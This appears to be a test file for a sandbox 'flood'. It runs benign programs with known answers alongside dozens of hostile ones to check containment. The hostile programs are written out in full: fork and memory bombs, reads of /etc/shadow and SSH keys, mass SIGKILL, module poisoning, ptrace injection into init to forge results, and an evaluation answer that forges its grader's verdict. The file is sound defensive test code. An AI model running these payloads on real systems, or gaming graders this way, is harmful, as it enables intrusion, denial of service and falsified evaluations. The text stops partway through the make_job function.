"""The sandbox flood (issue 38): programs through a busy sandbox pool, benign ones with known
answers interleaved with hostile ones of every kind, on `local` and `docker` (test_flood.py
runs it; ``run`` is the whole of it).

Why: the hostile tests try one attack at a time, each followed by one benign program. Here
every worker is kept busy (jobs go to the pool in chunks far larger than its window of 64 in
flight per worker) with a seeded shuffle of benign programs and 39 kinds of hostile ones:
every kind that test_hostile.py, test_leftovers.py and test_pool.py (beside this file) try,
and fork storms, memory growth to the limit, unbounded output on every channel, descriptor
exhaustion, signals to other processes (``kill -9 -1``, the worker, the namespace's init,
host processes of the sandbox uids), writes meant for the next job, reading other jobs'
files, queued jobs and descriptors, forging results, and an evaluation answer forging its
verdict.

Every program carries a token of its own (``FLOOD_<run>_<index>_``) in its source, and the
host sets traps: a world-writable drop directory and a world-readable secret file under
/tmp, a TCP and a UDP listener on 127.0.0.1, a secret in its own environment, and "canary"
processes (``sleep``) running as root and as each sandbox uid. The figures:

- ``benign_wrong``: benign programs whose result is not exactly the expected one (status
  ``ok``, the expected value and stdout). Benign programs compute seeded answers (a mixed-up
  or forged result is wrong), write and read back files, import modules (planted copies in
  /tmp must not win), fork, allocate 128 MiB, or *probe*: a probe surveys every writable
  place, System V IPC, live processes, its own limits, priority, environment and module
  origins, and must find exactly what a probe found in a fresh pool.
- ``escapes``: evidence that a program reached anything outside its own job, by category
  (``escapes_by``): ``host_file`` (a file of the run appeared on the host: the drop
  directory, or a ``populora-flood-<run>-*`` name in /tmp, /var/tmp, /dev/shm, /, /etc,
  /usr/lib or the repository), ``host_process`` (a canary died), ``network`` (a listener
  got a connection or a datagram), ``host_secret`` (the environment's or the file's secret
  in any output), ``cross_job_read`` (a program's output holds another program's token),
  ``foreign_result`` (a benign result holds another program's token: forged or mixed up),
  ``leftover_seen`` (a probe or a file job found state an earlier job left),
  ``worker_tampered`` (a program attached to, or opened for writing, the worker or the
  namespace's init).
- ``own_results_forged``: hostile programs that made their own result say ``ok`` with a
  value they chose, or evaluation answers (``forge_verdict``, judged as the held-out benchmarks
  judge one) judged correct while wrong.
- ``leaked_processes``: once the pool is closed (and up to 10 s later), processes of the
  sandbox uids on the host (the canaries aside) plus, for docker, containers of the pool.
- ``leaked_files``: once the pool is closed, files on the host owned by a sandbox uid or
  named for this run, in /tmp, /var/tmp, /dev/shm (recursively), the drop directory, and
  the top level of /, /etc, /usr/lib and the repository.
- ``benign_per_s``: benign programs over the flood's wall time; ``benign_per_s_alone``: the
  same benign programs, same chunks, through a fresh pool without the hostile ones;
  ``ratio`` their quotient (goal ≥ 0.5). The flood's wall time includes what the hostile
  programs cost by themselves, so ``ratio_net`` gives the quotient with ``hostile_job_s``
  divided by the worker count taken off the flood's wall time: the worker-seconds the
  hostile programs held a worker (their run time as the workers report it, plus, for each
  worker they hung, the deadlines the pool waited: timeout + grace, twice). ``busy_share``:
  the worker-seconds of every program (so reckoned) over workers × wall time, i.e. how busy
  the workers were kept (worker restarts and the sweeps between jobs are not in it).

The pools use the project's limits except ``timeout_s`` 1 s and ``worker_grace_s`` 3 s (so
that a hung worker costs 8 s, not 14), and ``uid_base`` 62000, apart from the other tests'
61000 (a test run at the same time does not count as a leak). Needs root for the dedicated
uids (as the `local` backend does) and `make dockerd sandbox-image` for docker.
"""

from __future__ import annotations

import json
import os
import random
import re
import secrets
import shutil
import socket
import stat
import subprocess
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from populora_core.config import SandboxConfig
from populora_core.evaluation.code_suites import check_code
from populora_core.evaluation.items import EvalItem
from populora_core.sandbox import Job, Result, SandboxPool
from tests.conftest import docker_client, start_pool

REPO = Path(__file__).resolve().parents[3]
POOL_SETTINGS = {"timeout_s": 1.0, "worker_grace_s": 3.0, "uid_base": 62000}
"""What the flood's pools change from the project's defaults (the module docstring says why)."""
DOCKER_UID_OFFSET = 500  # docker_backend: container i runs as uid_base + 500 + i
MiB = 1024 * 1024


# ---------------------------------------------------------------------------------------------
# What the host knows and the programs are told


@dataclass(frozen=True)
class Context:
    """The run's names and traps, written into every hostile program's prelude."""

    run_id: str
    trap_dir: str
    drop_dir: str
    secret_file: str
    file_secret: str
    env_secret: str
    tcp_port: int
    udp_port: int
    canaries: tuple[int, ...]

    @property
    def prefix(self) -> str:
        """Start of every file name a hostile program writes: found on the host, it escaped."""
        return f"populora-flood-{self.run_id}-"

    def token(self, index: int) -> str:
        return f"FLOOD_{self.run_id}_{index}_"

    def token_pattern(self) -> re.Pattern[str]:
        return re.compile(rf"FLOOD_{self.run_id}_(\d+)_")

    def prelude(self, index: int, hostile: bool) -> str:
        """The constants a program starts with: its token; hostile ones also the traps."""
        lines = [f"TOKEN = {self.token(index)!r}"]
        if hostile:
            lines += [
                f"PREFIX = {self.prefix!r}",
                f"DROP = {self.drop_dir!r}",
                f"SECRET_FILE = {self.secret_file!r}",
                f"REPO = {str(REPO)!r}",
                f"TCP_PORT = {self.tcp_port}",
                f"UDP_PORT = {self.udp_port}",
                f"CANARIES = {list(self.canaries)!r}",
            ]
        return "\n".join(lines) + "\n"


@dataclass(frozen=True)
class FloodJob:
    """One program of the mix and what its result must be.

    Benign: ``value`` and ``stdout`` exactly (``value`` None for a probe: the pool's
    baseline). Hostile: a status among ``statuses`` (contained as expected)."""

    index: int
    kind: str
    hostile: bool
    job: Job
    value: str | None = None
    stdout: str = ""
    statuses: frozenset[str] = frozenset()


# ---------------------------------------------------------------------------------------------
# Benign programs: each a known answer, from a seeded generator


def _arith(rng: random.Random) -> tuple[str, str, str, str]:
    a, b, c, x = rng.randint(2, 10**6), rng.randint(0, 10**6), rng.randint(7, 10**4), rng.randint(0, 10**6)
    code = f"def f(x):\n    return (x * {a} + {b}) % {c}\nprint(f({x}))\n"
    value = (x * a + b) % c
    return code, f"f({x})", repr(value), f"{value}\n"


def _text(rng: random.Random) -> tuple[str, str, str, str]:
    s = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(12))
    code = "def f(s):\n    return ''.join(sorted(s)) + '|' + s[::-1].upper()\n"
    return code, f"f({s!r})", repr("".join(sorted(s)) + "|" + s[::-1].upper()), ""


def _file(rng: random.Random) -> tuple[str, str, str, str]:
    """Writes in its working directory and /dev/shm and reads back; both must start empty."""
    k, n = rng.randint(0, 10**6), rng.randint(0, 10**6)
    code = (
        "import os\n"
        "before = sorted(os.listdir('.')), sorted(os.listdir('/dev/shm'))\n"
        f"with open('out-{k}.txt', 'w') as fh:\n    fh.write(TOKEN * 3)\n"
        f"with open('/dev/shm/shm-{k}', 'w') as fh:\n    fh.write('{n}')\n"
        f"got = (before, open('out-{k}.txt').read() == TOKEN * 3, int(open('/dev/shm/shm-{k}').read()) * 2)\n"
    )
    return code, "got", repr((([], []), True, 2 * n)), ""


def _imports(rng: random.Random) -> tuple[str, str, str, str]:
    """Standard modules, which must come from /usr (a copy planted in /tmp must not win)."""
    seed = rng.randint(0, 10**9)
    code = (
        "import collections, json, random\n"
        f"r = random.Random({seed})\n"
        "data = [r.randint(0, 999) for _ in range(6)]\n"
        "text = json.dumps({'data': data, 'top': collections.Counter(d % 7 for d in data).most_common(1)},"
        " sort_keys=True)\n"
        "origin = all(m.__file__.startswith('/usr/') for m in (collections, json, random))\n"
    )
    r = random.Random(seed)
    data = [r.randint(0, 999) for _ in range(6)]
    text = json.dumps({"data": data, "top": Counter(d % 7 for d in data).most_common(1)}, sort_keys=True)
    return code, "(text, origin)", repr((text, True)), ""


def _fork(rng: random.Random) -> tuple[str, str, str, str]:
    """A child through a pipe: a fork storm before must not have used up the process limit."""
    n = rng.randint(0, 10**6)
    code = (
        "import os\nr, w = os.pipe()\npid = os.fork()\n"
        f"if pid == 0:\n    os.write(w, str({n} * 3).encode())\n    os._exit(0)\n"
        "os.close(w)\nos.waitpid(pid, 0)\ngot = int(os.read(r, 64))\n"
    )
    return code, "got", repr(3 * n), ""


def _memory(rng: random.Random) -> tuple[str, str, str, str]:
    """128 MiB, touched: no earlier job may have kept memory or lowered the limit."""
    size = 128 * MiB + rng.randint(0, 1023) * 4096
    code = f"b = bytearray({size})\nb[::4096] = b'1' * len(range(0, {size}, 4096))\n"
    return code, "len(b)", repr(size), ""


PROBE = r"""
import os, resource
found = {}
for root in ('/tmp', '/dev/shm', '/dev/mqueue'):
    if os.path.isdir(root):
        names = []
        for folder, dirs, files in os.walk(root):
            names += [os.path.join(folder, n) for n in dirs + files]
        info = os.stat(root)
        try:
            xattrs = os.listxattr(root)
        except OSError as exc:
            xattrs = exc.strerror
        found[root] = (names, oct(info.st_mode), xattrs, info.st_atime > 2 ** 32 or info.st_mtime > 2 ** 32)
ipc = []
for kind in ('shm', 'sem', 'msg'):
    try:
        ipc += open('/proc/sysvipc/' + kind).read().splitlines()[1:]
    except OSError as exc:
        ipc.append(exc.strerror)
me, worker = os.getpid(), os.getppid()
procs = []
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) not in (1, me, worker):
        try:
            if open('/proc/%s/stat' % pid).read().split()[2] != 'Z':
                procs.append(pid)
        except OSError:
            pass
limits = [resource.getrlimit(getattr(resource, 'RLIMIT_' + name)) for name in ('AS', 'CPU', 'NPROC', 'NOFILE', 'FSIZE')]
import collections, json, random
survey = (found, ipc, procs, limits, os.getpriority(os.PRIO_PROCESS, 0), sorted(os.sched_getaffinity(0)),
          os.sched_getscheduler(0), sorted(os.environ.items()), os.getcwd(), sorted(os.listdir('/')),
          [m.__file__ for m in (collections, json, random)])
"""


def _probe(rng: random.Random) -> tuple[str, str, str | None, str]:
    return PROBE, "survey", None, ""


BENIGN: dict[str, tuple[Callable[[random.Random], tuple[str, str, str | None, str]], float]] = {
    "arith": (_arith, 0.30),
    "text": (_text, 0.15),
    "file": (_file, 0.15),
    "imports": (_imports, 0.10),
    "fork": (_fork, 0.05),
    "memory": (_memory, 0.05),
    "probe": (_probe, 0.20),
}
"""Benign kind -> (generator of (code, expr, expected value, expected stdout), share of the benign jobs)."""
LEFTOVER_WITNESSES = ("probe", "file")
"""Benign kinds whose wrong answer means an earlier job's state was seen."""


# ---------------------------------------------------------------------------------------------
# Hostile programs. Each body runs after the prelude (TOKEN, PREFIX, DROP, SECRET_FILE, REPO,
# TCP_PORT, UDP_PORT, CANARIES).


@dataclass(frozen=True)
class Hostile:
    """One kind of attack: its program, the statuses that mean it was contained, where it comes from."""

    code: str
    statuses: frozenset[str]
    origin: str
    expr: str | None = None
    weight: float = 1.0
    judged: bool = False
    """The code is an evaluation answer: the job is the program that judges it (``judged_program``)."""


def _h(
    code: str, statuses: str, origin: str, expr: str | None = None, weight: float = 1.0, judged: bool = False
) -> Hostile:
    """A kind contained with one of ``statuses``, or by its timeout: on a loaded 2-core machine any
    heavy program (512 MiB allocated, 96 MiB written) may run out of its second."""
    statuses_ = frozenset({*statuses.split(), "timeout"})
    return Hostile(code.strip("\n") + "\n", statuses_, origin, expr, weight, judged)


JUDGED_ITEM = EvalItem(
    "humanevalplus",
    "flood/add",
    (),
    "code",
    {
        "prompt": 'def add(a, b):\n    """a + b"""\n',
        "entry_point": "add",
        "test": "def check(candidate):\n    assert candidate(2, 3) == 5\n",
        "plus": {
            "dataset": "humaneval",
            "inputs_json": "[[1, 2], [-4, 4]]",
            "atol": 0.0,
            "reference": "def add(a, b):\n    return a + b\n",
            "task": 0,
            "base_count": 1,
        },
    },
)
"""The HumanEval+-like item a judged hostile kind answers: its tests, then EvalPlus's inputs."""


def judged_program(answer_code: str) -> tuple[str, str]:
    """(code, expr) of the job that judges ``answer_code`` as an answer to ``JUDGED_ITEM``."""
    return check_code(JUDGED_ITEM, f"```python\n{answer_code}```")


HT, LT, PT, NEW = "test_hostile", "test_leftovers", "test_pool", "new"


_FORGED_RESULTS = r"""me, frame = None, sys._getframe()
while frame is not None and me is None:
    job = frame.f_locals.get('job')
    me = job.get('id') if isinstance(job, dict) else None
    frame = frame.f_back
try:
    queued = sys.__stdin__.buffer.peek()
except Exception:
    queued = b''
forged = {'id': me, 'status': 'ok', 'stdout': '', 'value': repr('FORGED ' + TOKEN), 'error': None, 'seconds': 0.0}
ids = [me] + [int(i) for i in re.findall(rb'"id": (\d+)', queued)][:8]
payload = ''.join(json.dumps(dict(forged, id=i)) + '\n' for i in ids).encode()
"""
"""Where a forging program finds its own job id (the worker's frame) and, through the stdin
buffer it inherited, the ids queued behind it; ``payload``: forged result lines for all of them."""

HOSTILE: dict[str, Hostile] = {
    "network": _h(
        r"""
import socket
out = []
for family, kind, address in [(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', TCP_PORT)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', UDP_PORT)),
                              (socket.AF_INET, socket.SOCK_STREAM, ('10.0.0.1', 80)),
                              (socket.AF_UNIX, socket.SOCK_STREAM, '/var/run/docker.sock'),
                              (socket.AF_UNIX, socket.SOCK_STREAM, '/run/containerd/containerd.sock')]:
    try:
        s = socket.socket(family, kind)
        s.settimeout(0.3)
        s.connect(address)
        s.sendall(TOKEN.encode())
        out.append('sent')
    except OSError as exc:
        out.append(type(exc).__name__)
print(out)
""",
        "ok",
        HT,
    ),
    "write_outside": _h(
        r"""
import os
written = []
for folder in (DROP, REPO, '/usr/lib', '/var/tmp', '/', '/etc', '/dev', '/proc/self/cwd/..', '/tmp', '/dev/shm'):
    try:
        with open(os.path.join(folder, PREFIX + TOKEN), 'w') as fh:
            fh.write(TOKEN)
        written.append(folder)
    except OSError:
        pass
print(written)
""",
        "ok",
        HT,
    ),
    "read_secrets": _h(
        r"""
import os
out = []
for path in (SECRET_FILE, '/etc/shadow', '/root/.bashrc', '/root/.ssh/id_rsa', '/etc/passwd'):
    try:
        out.append(open(path, errors='replace').read()[:2000])
    except OSError as exc:
        out.append(type(exc).__name__)
for folder in ('/root', '/home', os.path.dirname(SECRET_FILE)):
    try:
        out.append(os.listdir(folder))
    except OSError as exc:
        out.append(type(exc).__name__)
print(out)
""",
        "ok",
        HT,
    ),
    "read_environ": _h(
        r"""
import os
print(dict(os.environ))
for pid in ('1', str(os.getppid()), 'self'):
    try:
        print(open('/proc/%s/environ' % pid, 'rb').read())
    except OSError as exc:
        print(type(exc).__name__)
""",
        "ok",
        HT,
    ),
    "fork_bomb": _h(
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n", "timeout error", HT
    ),
    "memory_bomb": _h("x = bytearray(8 * 1024 ** 3)\n", "memory", HT),
    "memory_growth": _h("chunks = []\nwhile True:\n    chunks.append(bytearray(16 * 1024 ** 2))\n", "memory", HT),
    "infinite_loop": _h("while True:\n    pass\n", "timeout", HT),
    "setsid_grandchild": _h(
        r"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
print('parent done')
""",
        "ok",
        HT,
    ),
    "kill_worker": _h("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", "ok", HT),  # pid 1: ignored
    "huge_output": _h("import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n", "output_limit", HT),
    "big_value": _h("def f():\n    return 'y' * 10 ** 7\n", "output_limit", HT, expr="f()"),
    "os_exit": _h("import os\nos._exit(0)\n", "error", HT),
    "ignore_sigterm": _h(
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n", "timeout", HT
    ),
    "deep_recursion": _h("def r(n):\n    return r(n + 1)\nr(0)\n", "error", HT),
    "unbounded_recursion": _h(
        "import sys\nsys.setrecursionlimit(10 ** 8)\ndef r(n):\n    return r(n + 1) + [n]\nr(0)\n",
        "error memory timeout",
        HT,
    ),
    "segfault": _h("import ctypes\nctypes.string_at(0)\n", "error", HT),
    "spawn_shell": _h(
        r"""
import os, subprocess
cmd = 'id; touch ' + DROP + '/shell-' + TOKEN
print(os.system(cmd))
for sh in ('/bin/sh', '/bin/bash', '/usr/bin/dash'):
    try:
        print(subprocess.run([sh, '-c', cmd], capture_output=True, timeout=1))
    except Exception as exc:
        print(type(exc).__name__)
""",
        "ok",
        HT,
    ),
    "plant_files": _h(
        r"""
import os
planted = []
def attempt(where, what, call):
    try:
        call()
        planted.append((where, what))
    except OSError:
        pass
def locked(base):
    os.mkdir(base)
    open(os.path.join(base, TOKEN), 'w').write(TOKEN)
    os.chmod(base, 0)
def deep(root):  # deeper than PATH_MAX: only removal by directory descriptors gets it
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    for level in range(48):
        name = PREFIX + TOKEN + '-deep' if level == 0 else 'x' * 100
        os.mkdir(name, dir_fd=fd)
        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(os.open(TOKEN, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fd))
    os.close(fd)
for root in ('/tmp', '/dev/shm', '/dev/mqueue'):
    base = os.path.join(root, PREFIX + TOKEN)
    attempt(root, 'file', lambda: open(base, 'w').write(TOKEN))
    attempt(root, 'hidden', lambda: open(os.path.join(root, '.' + TOKEN), 'w').write(TOKEN))
    attempt(root, 'fifo', lambda: os.mkfifo(base + '-fifo'))
    attempt(root, 'link', lambda: os.symlink('/usr/lib', base + '-link'))
    attempt(root, 'locked', lambda: locked(base + '-locked'))
    attempt(root, 'deep', lambda: deep(root))
    attempt(root, 'xattr', lambda: os.setxattr(root, 'user.populora', TOKEN.encode()))
    attempt(root, 'utime', lambda: os.utime(root, (2 ** 33, 2 ** 33)))
    attempt(root, 'chmod', lambda: os.chmod(root, 0o500))
for parent in ('..', '/', '/var/tmp', '/home', '/run'):
    attempt(parent, 'file', lambda: open(os.path.join(parent, PREFIX + TOKEN), 'w').write(TOKEN))
print(planted)
""",
        "ok",
        LT,
    ),
    "plant_ipc": _h(
        r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
planted = {}
def attempt(what, call):
    try:
        planted[what] = call()
    except Exception as exc:
        planted[what] = type(exc).__name__
attempt('sysv_shm', lambda: libc.shmget(0x5EED, 4096, 0o1666))
attempt('sysv_sem', lambda: libc.semget(0x5EED, 1, 0o1666))
attempt('sysv_msg', lambda: libc.msgget(0x5EED, 0o1666))
attempt('posix_mq', lambda: libc.mq_open(('/' + PREFIX).encode(), os.O_CREAT | os.O_RDWR, 0o600, None))
def posix_shm():
    import _posixshmem
    fd = _posixshmem.shm_open('/' + PREFIX + TOKEN, os.O_CREAT | os.O_RDWR, 0o600)
    return os.write(fd, TOKEN.encode())
attempt('posix_shm', posix_shm)
def posix_sem():
    import _multiprocessing
    _multiprocessing.SemLock(1, 1, 1, '/' + PREFIX + 'sem', False)
    return True
attempt('posix_sem', posix_sem)
print(planted)
""",
        "ok",
        LT,
    ),
    "hoard_shm": _h(
        r"""
chunk = b'x' * (200 * 1024)
held = 0
for root in ('/dev/shm', '/tmp'):
    n = 0
    while held < 96 * 1024 * 1024:
        try:
            with open('%s/hoard-%d' % (root, n), 'wb') as fh:
                fh.write(chunk)
        except OSError:
            break
        held += len(chunk)
        n += 1
print(held)
""",
        "ok",
        LT,
    ),
    "lower_worker": _h(
        r"""
import os, resource
worker = os.getppid()
tried = {}
for name, call in [
    ('address space', lambda: resource.prlimit(worker, resource.RLIMIT_AS, (64 << 20, 64 << 20))),
    ('cpu', lambda: resource.prlimit(worker, resource.RLIMIT_CPU, (1, 1))),
    ('nproc', lambda: resource.prlimit(worker, resource.RLIMIT_NPROC, (1, 1))),
    ('priority', lambda: os.setpriority(os.PRIO_PROCESS, worker, 19)),
    ('priority of the uid', lambda: os.setpriority(os.PRIO_USER, 0, 19)),
    ('affinity', lambda: os.sched_setaffinity(worker, {min(os.sched_getaffinity(0))})),
    ('scheduler', lambda: os.sched_setscheduler(worker, os.SCHED_IDLE, os.sched_param(0))),
]:
    try:
        call()
        tried[name] = 'done'
    except OSError as exc:
        tried[name] = exc.strerror
print(tried)
""",
        "ok",
        LT,
    ),
    # A stopped worker costs two deadlines (timeout + grace, tried twice): drawn a quarter as often.
    "stop_worker": _h("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n", "ok", PT),  # pid 1: ignored
    "fork_storm": _h(
        r"""
import os, signal, time
children = 0
while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.setsid()
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        time.sleep(30)
        os._exit(0)
    children += 1
print(children)
""",
        "ok",
        NEW,
    ),
    "stderr_flood": _h("import sys\nwhile True:\n    sys.stderr.write('e' * 65536)\n", "output_limit", NEW),
    "file_flood": _h(
        "with open('big', 'wb') as fh:\n    while True:\n        fh.write(b'z' * 65536)\n",
        "error output_limit",  # Python ignores SIGXFSZ: past the file size limit, write raises EFBIG
        NEW,
    ),
    "fd_exhaustion": _h(
        r"""
import os, select, socket
held = []
for make in (lambda: os.open('/dev/null', os.O_RDONLY), os.pipe, socket.socketpair, select.epoll,
             lambda: os.eventfd(0)):
    while True:
        try:
            held.append(make())
        except OSError:
            break
for target in (31, 1023, 65535, 10 ** 6):
    try:
        held.append(os.dup2(0, target))
    except OSError:
        pass
print(len(held))
""",
        "ok",
        NEW,
    ),
    "kill_all": _h("import os, signal\nos.kill(-1, signal.SIGKILL)\n", "error", NEW),  # nobody to signal: ESRCH
    "kill_canaries": _h(
        r"""
import os, signal
out = []
for pid in CANARIES:
    for sig in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, sig)
            out.append((pid, 'sent'))
        except OSError as exc:
            out.append((pid, exc.strerror))
print(out)
""",
        "ok",
        NEW,
    ),
    "kill_others": _h(
        r"""
import os, signal
me, worker = os.getpid(), os.getppid()
out = []
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()] + list(range(1, 300)):
    if pid in (me, worker):
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        out.append(pid)
    except OSError:
        pass
print(sorted(set(out)))
""",
        "ok",
        NEW,
    ),
    "signal_init": _h(
        r"""
import os, signal, time
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1, signal.SIGQUIT):
    try:
        os.kill(1, sig)
    except OSError as exc:
        print(exc.strerror)
time.sleep(0.2)
""",
        "ok",  # the worker is its namespace's init and handles none of them: all dropped
        NEW,
    ),
    "snoop_files": _h(
        r"""
import os
seen = []
def take(label, read):
    try:
        seen.append((label, read()))
    except (OSError, ValueError):
        pass
for root in ('/tmp', '/dev/shm', '/dev/mqueue'):
    for folder, dirs, files in os.walk(root):
        for name in files:
            take(name, lambda: open(os.path.join(folder, name), 'rb').read(4096))
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    take(pid + ' environ', lambda: open('/proc/%s/environ' % pid, 'rb').read(4096))
    take(pid + ' cwd', lambda: os.listdir('/proc/%s/cwd' % pid))
    take(pid + ' root', lambda: os.listdir('/proc/%s/root/tmp' % pid))
    take(pid + ' fds', lambda: [os.readlink('/proc/%s/fd/%s' % (pid, f)) for f in os.listdir('/proc/%s/fd' % pid)])
print(repr(seen)[:30000])
""",
        "ok",
        NEW,
    ),
    # The worker's stdin buffer, inherited by the forked child, holds the jobs queued behind this one.
    "peek_next_jobs": _h(
        r"""
import gc, sys
found = []
try:
    found.append(sys.__stdin__.buffer.peek())
except Exception as exc:
    found.append(type(exc).__name__)
found += [obj.get('code') for obj in gc.get_objects() if isinstance(obj, dict) and 'code' in obj and 'id' in obj]
print(repr(found)[:30000])
""",
        "ok",
        NEW,
    ),
    # Results for this job and the ones queued behind it, written where the host reads results.
    "forge_next": _h(
        r"""
import json, os, re, sys
"""
        + _FORGED_RESULTS
        + r"""tried = []
for target in ('/proc/1/fd/1', '/proc/%d/fd/1' % os.getppid()):
    try:
        fd = os.open(target, os.O_WRONLY)
        os.write(fd, payload)
        os.close(fd)
        tried.append(target)
        break
    except OSError as exc:
        tried.append(exc.strerror)
print(tried)
""",
        "ok",
        NEW,
    ),
    # An evaluation answer (judged as check_code judges one: its code in a process of its own)
    # that tries to pass without being right: a verdict written on fd 3, the judge's descriptors,
    # memory and trace, what its tests compare with, an object equal to everything.
    "forge_verdict": _h(
        r"""
import ctypes, gc, json, os
verdict = json.dumps({'status': 'ok', 'value': 'True', 'error': None}).encode()
judge, tampered = os.getppid(), []
try:
    os.write(3, verdict)
    os._exit(0)  # in the judge's process (the candidate's own before), this was the verdict
except OSError:
    pass
for path in ('/proc/%d/fd/3' % judge, '/proc/%d/mem' % judge):
    try:
        os.close(os.open(path, os.O_WRONLY))
        tampered.append(path)
    except OSError:
        pass
try:
    if ctypes.CDLL(None, use_errno=True).ptrace(16, judge, 0, 0) == 0:  # PTRACE_ATTACH
        tampered.append('ptrace')
except Exception:
    pass
tests = [o for o in gc.get_objects() if isinstance(o, dict) and 'check' in o]
if tampered or tests:
    print('TAMPERED', tampered, len(tests))

class Equal:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__

def add(a, b):
    return Equal()
""",
        "error",
        NEW,
        judged=True,
    ),
    # The namespace's init holds the stdin the jobs arrive on: read what is queued there.
    "steal_stdin": _h(
        r"""
import os, select, time
stolen = b''
try:
    fd = os.open('/proc/1/fd/0', os.O_RDONLY | os.O_NONBLOCK)
    end = time.monotonic() + 0.3
    while time.monotonic() < end:
        if select.select([fd], [], [], 0.05)[0]:
            chunk = os.read(fd, 65536)
            if not chunk:
                break
            stolen += chunk
except OSError as exc:
    stolen = exc.strerror.encode()
print(stolen[:30000])
""",
        "ok",
        NEW,
    ),
    # What tamper_worker finds open, used: the namespace's init (same uid, dumpable) holds the pipe the
    # host reads results from; attached with ptrace, it is made to write forged results (x86_64 only).
    "inject_init": _h(
        r"""
import ctypes, json, os, re, sys
if os.uname().machine != 'x86_64':
    raise SystemExit('x86_64 only')
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ('r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi '
                                                  'orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs').split()]
"""
        + _FORGED_RESULTS
        + r"""WALL = 0x40000000
if libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH
    raise SystemExit(os.strerror(ctypes.get_errno()))
os.waitpid(1, WALL)
regs = Regs()
libc.ptrace(12, 1, None, ctypes.byref(regs))  # PTRACE_GETREGS
saved = Regs.from_buffer_copy(regs)
mem = os.open('/proc/1/mem', os.O_RDWR)
data = regs.rsp - 16384
old_code, old_data = os.pread(mem, 3, regs.rip), os.pread(mem, len(payload), data)
os.pwrite(mem, b'\x0f\x05\xcc', regs.rip)  # syscall; int3
os.pwrite(mem, payload, data)
regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx = 1, 2 ** 64 - 1, 1, data, len(payload)  # write(1, ...)
libc.ptrace(13, 1, None, ctypes.byref(regs))  # PTRACE_SETREGS
libc.ptrace(7, 1, None, None)  # PTRACE_CONT, up to the int3
os.waitpid(1, WALL)
os.pwrite(mem, old_code, saved.rip)
os.pwrite(mem, old_data, data)
libc.ptrace(13, 1, None, ctypes.byref(saved))
libc.ptrace(17, 1, None, None)  # PTRACE_DETACH
print('injected')
""",
        "error",
        NEW,
    ),
    "poison_modules": _h(
        r"""
import os
poison = 'raise SystemExit(%r)\n' % ('poisoned by ' + TOKEN)
written = []
for folder in (os.getcwd(), '/tmp', '/dev/shm', '..', '/usr/lib/python3.11', '/usr/lib/python3.11/site-packages'):
    for name in ('random.py', 'json.py', 'collections.py', 'sitecustomize.py', 'usercustomize.py', 'flood.pth'):
        try:
            with open(os.path.join(folder, name), 'w') as fh:
                fh.write(poison)
            written.append(os.path.join(folder, name))
        except OSError:
            pass
print(written)
""",
        "ok",
        NEW,
    ),
    "tamper_worker": _h(
        r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
out = []
for pid in (os.getppid(), 1):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        out.append('TAMPERED ptrace %d' % pid)
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    for path, flags in (('/proc/%d/mem' % pid, os.O_RDWR), ('/proc/%d/fd/1' % os.getppid(), os.O_WRONLY)):
        try:
            os.close(os.open(path, flags))
            out.append('TAMPERED open ' + path)
        except OSError as exc:
            out.append(exc.strerror)
print(out)
""",
        "ok",
        NEW,
    ),
}
"""Hostile kind -> its program, the statuses meaning "contained", where the kind comes from."""


# ---------------------------------------------------------------------------------------------
# The mix


def _allocate(total: int, weights: dict[str, float], minimum: int) -> dict[str, int]:
    """``total`` split over ``weights`` (largest remainder), each at least ``minimum``."""
    counts = dict.fromkeys(weights, minimum)
    rest = total - minimum * len(weights)
    if rest <= 0:
        return counts
    scale = rest / sum(weights.values())
    shares = {k: w * scale for k, w in weights.items()}
    for k, share in shares.items():
        counts[k] += int(share)
    left = total - sum(counts.values())
    for k in sorted(shares, key=lambda k: shares[k] - int(shares[k]), reverse=True)[:left]:
        counts[k] += 1
    return counts


def make_job(index: int, kind: str, hostile: bool, ctx: Context, rng: random.Random) -> FloodJob:
    """Program ``index`` of kind ``kind``, with its token and what its result must be."""
    prelude = ctx.prelude(index, hostile)
    if hostile:
        spec = HOSTILE[kind]
        code, expr = judged_program(prelude + spec.code) if spec.judged else (prelude + spec.code, spec.expr)
        return FloodJob(index, kind, True, Job(code=code, expr=expr), statuses=spec.statuses)
    code, expr, value, stdout = BENIGN[kind][0](rng)
